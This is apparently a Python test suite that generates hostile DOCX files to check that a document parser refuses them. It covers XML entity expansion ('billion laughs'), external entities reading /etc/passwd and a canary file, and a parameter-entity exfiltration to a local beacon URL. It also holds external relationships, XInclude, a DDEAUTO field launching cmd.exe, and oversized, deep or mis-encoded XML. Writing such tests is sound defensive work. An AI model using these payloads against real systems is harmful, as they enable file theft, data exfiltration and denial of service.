"""DOCX: the XML of the parts - entities, external references, depth, width, encodings."""
from __future__ import annotations

from case import CANARY, DAMAGED, LIMIT, PARTLY, READ, SPENT, case
from zipkit import DECLARATION, NAMESPACES, content_types, document, docx, paragraphs, relationships

KEPT = READ + PARTLY
LOST = PARTLY + DAMAGED
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MIB = 1 << 20


def texts(name):
    return tuple(f"Đoạn {i} của tệp {name}" for i in range(1, 4))


def main_part(name, allow, xml, why="", extra=None, **more):
    return case(f"{name}.docx", allow, docx(xml if isinstance(xml, bytes) else xml.encode("utf-8"), extra), why, **more)


def with_prolog(prolog: str, inside: str = "", name: str = "") -> bytes:
    return document(paragraphs(*texts(name)) + f"<w:p><w:r><w:t>{inside}</w:t></w:r></w:p>", prolog)


def doctypes(canary: str, beacon: int):
    """No office program writes a document type: the file is refused, whatever the type declares."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    url = f"http://127.0.0.1:{beacon}/x.dtd"
    kinds = {
        "laughs": (f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>', "&l9;"),
        "quadratic": (f'<!DOCTYPE d [<!ENTITY a "{"A" * 100_000}">]>', "&a;" * 50_000),
        "recursive": ('<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "file": (f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{canary}">]>', "&x;"),
        "file-relative": ('<!DOCTYPE d [<!ENTITY x SYSTEM "../../canary.txt">]>', "&x;"),
        "passwd": ('<!DOCTYPE d [<!ENTITY x SYSTEM "/etc/passwd">]>', "&x;"),
        "hostname": ('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"),
        "http": (f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}">]>', "&x;"),
        "external": (f'<!DOCTYPE d SYSTEM "{url}">', ""),
        "public": (f'<!DOCTYPE d PUBLIC "-//X//Y" "{url}">', ""),
        "parameter": (f'<!DOCTYPE d [<!ENTITY % p SYSTEM "file://{canary}"> %p; <!ENTITY % q "<!ENTITY r SYSTEM \'{url}?%p;\'>"> %q;]>', "&r;"),
        "attribute": (f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{canary}"><!ATTLIST w:t a CDATA "&x;">]>', ""),
        "notation": ('<!DOCTYPE d [<!NOTATION n SYSTEM "/bin/sh"><!ENTITY x SYSTEM "/etc/passwd" NDATA n>]>', ""),
        "device": ('<!DOCTYPE d [<!ENTITY x SYSTEM "/dev/zero">]>', "&x;"),
        "empty": ("<!DOCTYPE d>", ""),
        "unclosed": ("<!DOCTYPE d [<!ENTITY x '", ""),
    }
    secret = (CANARY, "root:x:0")
    for kind, (doctype, use) in kinds.items():
        name = f"doctype-{kind}"
        yield main_part(name, DAMAGED, with_prolog(DECLARATION + doctype, use, name), doctype[:60], absent=secret)
    doctype = kinds["file"][0]
    for encoding in ("utf-16-le", "utf-16-be", "utf-16"):
        name = f"doctype-in-{encoding}"
        text = with_prolog(f'<?xml version="1.0" encoding="UTF-16"?>{doctype}', "&x;", name).decode()
        mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(encoding, b"")
        yield main_part(name, DAMAGED, mark + text.encode(encoding), "a document type that a search for ASCII misses", absent=secret)
    name = "doctype-in-utf-7"
    text = f'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d [+ADwAIQ-ENTITY x SYSTEM "file://{canary}"+AD4-]+AD4-'
    yield main_part(name, DAMAGED, text.encode() + with_prolog("", "&x;", name), absent=secret)
    name = "doctype-in-ebcdic"
    text = with_prolog(f'<?xml version="1.0" encoding="cp037"?>{doctype}', "x", name).decode()
    yield main_part(name, DAMAGED, text.encode("cp037", "replace"), absent=secret)
    name = "doctype-behind-comment"
    yield main_part(name, DAMAGED, with_prolog(f"{DECLARATION}<!-- > --><?x > ?>{doctype}", "&x;", name), absent=secret)
    name = "doctype-in-cdata"
    yield main_part(name, READ, document(f"<w:p><w:r><w:t><![CDATA[<!DOCTYPE x> {name}]]></w:t></w:r></w:p>"),
                    "only letters that look like one", contain=f"<!DOCTYPE x> {name}")

    def beside(part, xml, allow=DAMAGED, rels=None, why=""):
        name = f"doctype-{part.replace('/', '-').replace('.xml', '').replace('[', '').replace(']', '').lower()}"
        return case(f"{name}.docx", allow, docx(paragraphs(*texts(name)), {part: (DECLARATION + doctype + xml).encode()}, rels),
                    why or "a document type in a part beside the text", absent=secret, whole=texts(name))

    yield beside("word/styles.xml", f"<w:styles {W}>&x;</w:styles>")
    yield beside("word/numbering.xml", f"<w:numbering {W}>&x;</w:numbering>")
    yield beside("word/footnotes.xml", f'<w:footnotes {W}><w:footnote w:id="1"><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:footnote></w:footnotes>')
    yield beside("word/comments.xml", f'<w:comments {W}><w:comment w:id="1"><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:comment></w:comments>')
    strip = lambda data: data.decode().split("?>\n", 1)[1]
    yield beside("_rels/.rels", strip(relationships(("officeDocument", "word/document.xml"))))
    yield beside("word/_rels/document.xml.rels", strip(relationships()))
    yield beside("[Content_Types].xml", strip(content_types()))
    # Never parsed: whoever looks at them anyway must refuse them.
    unread = READ + DAMAGED
    yield beside("word/settings.xml", f"<w:settings {W}>&x;</w:settings>", unread)
    yield beside("docProps/core.xml", "<core>&x;</core>", unread)
    yield beside("customXml/item1.xml", "<a>&x;</a>", unread)


def references(canary: str, beacon: int):
    """Things outside that a document asks for. Nobody goes there."""
    def inside(name, xml, allow=READ, why="", extra=None, rels=None, **more):
        return case(f"{name}.docx", allow, docx(paragraphs(*texts(name)) + xml, extra, rels), why, absent=(CANARY, "root:x:0"),
                    whole=texts(name), **more)

    yield inside("xinclude", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>',
                 why="XInclude of a file")
    yield inside("xinclude-itself", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="document.xml"/>')
    yield inside("schema-location", '<w:p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                 f'xsi:schemaLocation="a http://127.0.0.1:{beacon}/a.xsd"/>')
    yield inside("entity-undefined", "<w:p><w:r><w:t>&nowhere;</w:t></w:r></w:p>", LOST, "an entity that nobody declared")
    url = f"http://127.0.0.1:{beacon}/a"
    for kind, target in (("file", f"file://{canary}"), ("unc", "\\\\127.0.0.1\\share\\a.docx"), ("http", url), ("passwd", "/etc/passwd")):
        outside = tuple((kind_of, target) for kind_of in ("image", "attachedTemplate", "hyperlink", "oleObject", "subDocument", "frame",
                                                          "aFChunk", "header", "footnotes", "styles", "settings"))
        body = ('<w:altChunk r:id="rId7"/><w:subDoc r:id="rId5"/><w:p><w:hyperlink r:id="rId3"><w:r><w:t>liên kết</w:t></w:r></w:hyperlink>'
                '</w:p><w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rId1"/>'
                '</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
                '<w:sectPr><w:headerReference w:type="default" r:id="rId8"/></w:sectPr>')
        yield inside(f"external-{kind}", body, KEPT, "every kind of part is said to lie outside", rels=relationships(external=outside))
    yield inside("altchunk-itself", '<w:altChunk r:id="rId1"/>', KEPT, "the document imports itself",
                 rels=relationships(("aFChunk", "document.xml")), warnings="alt-chunk")
    yield inside("altchunk-html", '<w:altChunk r:id="rId1"/>', KEPT, extra={"word/a.html": f'<iframe src="file://{canary}">'.encode()},
                 rels=relationships(("aFChunk", "a.html")), warnings="alt-chunk")
    pi = f'{DECLARATION}<?xml-stylesheet href="http://127.0.0.1:{beacon}/a.xsl" type="text/xsl"?><?mso-application progid="Word"?>'
    name = "stylesheet-instruction"
    yield main_part(name, READ, with_prolog(pi, "", name), contain=texts(name))
    name = "instructions-500000"
    yield main_part(name, KEPT + LIMIT + SPENT, document(paragraphs(*texts(name)) + "<?x y?>" * 500_000), whole=texts(name))
    name = "fields-outside"
    field = "".join('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r><w:r>'
                    '<w:fldChar w:fldCharType="end"/></w:r></w:p>' % instruction for instruction in (
                        f'INCLUDETEXT "{canary}"', f'INCLUDEPICTURE "{url}"', 'DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"', 'IMPORT "/etc/passwd"'))
    yield inside(name, field)


def shapes():
    """XML that is very deep, wide, long, or not well formed."""
    def body(name, xml, allow, why="", **more):
        more.setdefault("whole", texts(name))
        return case(f"{name}.docx", allow, docx(paragraphs(*texts(name)) + xml), why, **more)

    over = ("partly-read/too-large", "unreadable/too-large")
    kept = ("partly-read/too-large",)
    for depth, allow in ((200, KEPT), (300, kept), (100_000, kept), (300_000, kept)):
        name = f"depth-{depth}"
        yield body(name, "<w:x>" * depth + "</w:x>" * depth, allow, "elements within elements", contain=texts(name))
    yield body("depth-unclosed", "<w:x>" * 300_000, LOST + LIMIT, "")
    for depth, allow in ((60, READ), (90, kept), (20_000, kept)):
        name = f"tables-{depth}"
        cell = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
        yield body(name, cell[0] * depth + "<w:p><w:r><w:t>sâu nhất</w:t></w:r></w:p>" + cell[1] * depth, allow, "tables within tables",
                   contain=texts(name))
    for tag in ("w:sdt", "w:p", "w:r", "w:ins", "w:del", "w:smartTag", "m:oMath", "mc:AlternateContent", "w:txbxContent", "w:pict"):
        name = f"depth-{tag.replace(':', '-').lower()}"
        yield body(name, f"<{tag}>" * 250 + "<w:p><w:r><w:t>sâu</w:t></w:r></w:p>" + f"</{tag}>" * 250, KEPT + LIMIT + LOST)
    yield body("attributes-100000", "<w:p " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>", over + LOST,
               "libxml2 is quadratic in the attributes of one tag", contain=())
    yield body("attributes-999", ("<w:p " + " ".join(f'a{i}="1"' for i in range(999)) + "/>") * 500, KEPT + SPENT)
    yield body("attribute-2mb", f'<w:p a="{"A" * 2_000_000}"/>', over + LOST)
    yield body("attribute-duplicate", '<w:p w:a="1" w:a="2"/>', LOST, "not well formed")
    yield body("namespaces-200000", "<w:p " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(200_000)) + "/>", over + LOST)
    yield body("namespaces-nested", "".join(f'<x xmlns:n{i}="urn:{i}">' for i in range(240)) + "</x>" * 240, KEPT + LIMIT)
    yield body("namespaces-wide", "".join(f'<x xmlns:n{i}="urn:{i}"/>' for i in range(200_000)), KEPT + SPENT, "200,000 names to keep")
    yield body("names-distinct", "".join(f"<n{i}/>" for i in range(500_000)), KEPT + SPENT, "500,000 names of elements")
    yield body("element-name-1mb", f"<w:{'n' * 1_000_000}/>", over + LOST)
    yield body("prefix-undeclared", "<zz:p/>", KEPT + DAMAGED)
    yield body("comment-3mb", "<!--" + "c" * 3_000_000 + "-->", READ)
    yield body("unclosed-tag", "<w:p", LOST)
    yield body("unclosed-attribute", '<w:p a="', LOST)
    yield body("unclosed-comment", "<!-- ", LOST)
    yield body("unclosed-cdata", "<w:p><w:r><w:t><![CDATA[ ", LOST)
    yield body("closed-wrongly", "<w:p><w:r></w:p></w:r>", LOST)
    yield body("charref-nul", "<w:p><w:r><w:t>&#0;</w:t></w:r></w:p>", LOST)
    yield body("charref-surrogate", "<w:p><w:r><w:t>&#xD800;</w:t></w:r></w:p>", LOST)
    yield body("charref-beyond", "<w:p><w:r><w:t>&#x110000;</w:t></w:r></w:p>", LOST)
    yield body("charref-long", "<w:p><w:r><w:t>&#" + "0" * 1_000_000 + "65;</w:t></w:r></w:p>", KEPT + LOST)
    yield body("charrefs-500000", "<w:p><w:r><w:t>" + "&#65;" * 500_000 + "</w:t></w:r></w:p>", KEPT + SPENT)
    yield body("charref-controls", "<w:p><w:r><w:t>&#x9b;31m&#x202e;&#x7f;&#xfffe;</w:t></w:r></w:p>", KEPT + LOST, "controls by number")
    name = "root-twice"
    yield main_part(name, LOST, document(paragraphs(*texts(name))) * 2, whole=texts(name))
    name = "root-trailing-text"
    yield main_part(name, LOST, document(paragraphs(*texts(name))) + b"x", whole=texts(name))
    name = "root-trailing-nul"
    yield main_part(name, KEPT + DAMAGED, document(paragraphs(*texts(name))) + bytes(500), whole=texts(name))
    name = "root-other"
    yield main_part(name, DAMAGED + PARTLY, b"<html><body><p>khong phai van ban Word</p></body></html>", "the main part is no Word XML")
    name = "namespace-other"
    yield main_part(name, DAMAGED + PARTLY, document(paragraphs(*texts(name))).replace(b"openxmlformats.org/wordprocessingml", b"example.org/words"),
                    "the words are in a namespace that nobody knows", whole=texts(name))
    name = "namespace-none"
    yield main_part(name, DAMAGED + PARTLY, b"<document><body><p><r><t>khong co khong gian ten</t></r></p></body></document>", whole="khong co khong gian ten")


def encodings():
    def coded(name, encoding, declared, allow, mark=b"", errors="strict", whole=True):
        text = document(paragraphs(*texts(name)), f'<?xml version="1.0" encoding="{declared}"?>').decode()
        return main_part(name, allow, mark + text.encode(encoding, errors), f"{encoding}, declared as {declared}",
                         whole=texts(name) if whole else (), contain=texts(name) if allow == READ and whole else ())

    yield coded("encoding-utf-16-le", "utf-16-le", "UTF-16", READ, b"\xff\xfe")
    yield coded("encoding-utf-16-be", "utf-16-be", "UTF-16", READ, b"\xfe\xff")
    yield coded("encoding-utf-16-no-mark", "utf-16-le", "UTF-16", READ)
    yield coded("encoding-utf-8-mark", "utf-8", "UTF-8", READ, b"\xef\xbb\xbf")
    yield coded("encoding-utf-8-as-utf-16", "utf-8", "UTF-16", READ + DAMAGED)
    yield coded("encoding-utf-16-as-utf-8", "utf-16-le", "UTF-8", READ + DAMAGED, b"\xff\xfe")
    yield coded("encoding-utf-8-as-latin", "utf-8", "ISO-8859-1", KEPT + DAMAGED, whole=False)
    yield coded("encoding-windows-1258", "cp1258", "windows-1258", KEPT + DAMAGED, errors="xmlcharrefreplace", whole=False)
    for encoding, declared in (("utf-7", "UTF-7"), ("utf-32-le", "UTF-32"), ("utf-32-be", "ISO-10646-UCS-4"), ("cp037", "IBM037"),
                               ("cp500", "EBCDIC-CP-BE"), ("shift_jis", "Shift_JIS"), ("gb18030", "GB18030"), ("iso2022_jp", "ISO-2022-JP"),
                               ("hz", "HZ-GB-2312")):
        yield coded(f"encoding-{encoding.replace('_', '-')}", encoding, declared, DAMAGED, errors="xmlcharrefreplace" if encoding != "cp037" and
                    encoding != "cp500" else "replace")
    yield coded("encoding-unknown", "utf-8", "x-made-up", DAMAGED + READ)
    yield coded("encoding-path", "utf-8", "../../../etc/passwd", DAMAGED + READ)
    yield coded("encoding-name-long", "utf-8", "A" * 300_000, DAMAGED + READ + LIMIT)
    sound = lambda name: document(paragraphs(*texts(name)))
    for name, junk in (("bytes-invalid", b"\xff\xfe\xfa"), ("bytes-overlong", b"\xc0\xbc\xe0\x80\xbc"), ("bytes-surrogates", b"\xed\xa0\x80\xed\xb0\x80"),
                       ("bytes-beyond", b"\xf4\x90\x80\x80"), ("bytes-nul", b"\0\0"), ("bytes-c0", b"\x01\x1b[2J\x07"), ("bytes-cut", b"\xe1\xba")):
        data = sound(name).replace("Đoạn 3".encode(), "Đoạn 3".encode() + junk)
        yield main_part(name, LOST, data, "bytes that are no UTF-8, or none that XML allows, in the last paragraph",
                        whole=texts(name)[:2])
    name = "bytes-odd-utf-16"
    data = b"\xff\xfe" + sound(name).decode().replace('encoding="UTF-8" ', "").encode("utf-16-le") + b"\0"
    yield main_part(name, READ + LOST, data, whole=texts(name))
    name = "bytes-lone-surrogates-utf-16"
    data = b"\xff\xfe" + sound(name).decode().replace("Đoạn 3", "Đoạn 3\ud800").encode("utf-16-le", "surrogatepass")
    yield main_part(name, KEPT + DAMAGED, data, whole=texts(name)[:2])


def cases(place):
    yield from doctypes(place.canary, place.beacon)
    yield from references(place.canary, place.beacon)
    yield from shapes()
    yield from encodings()
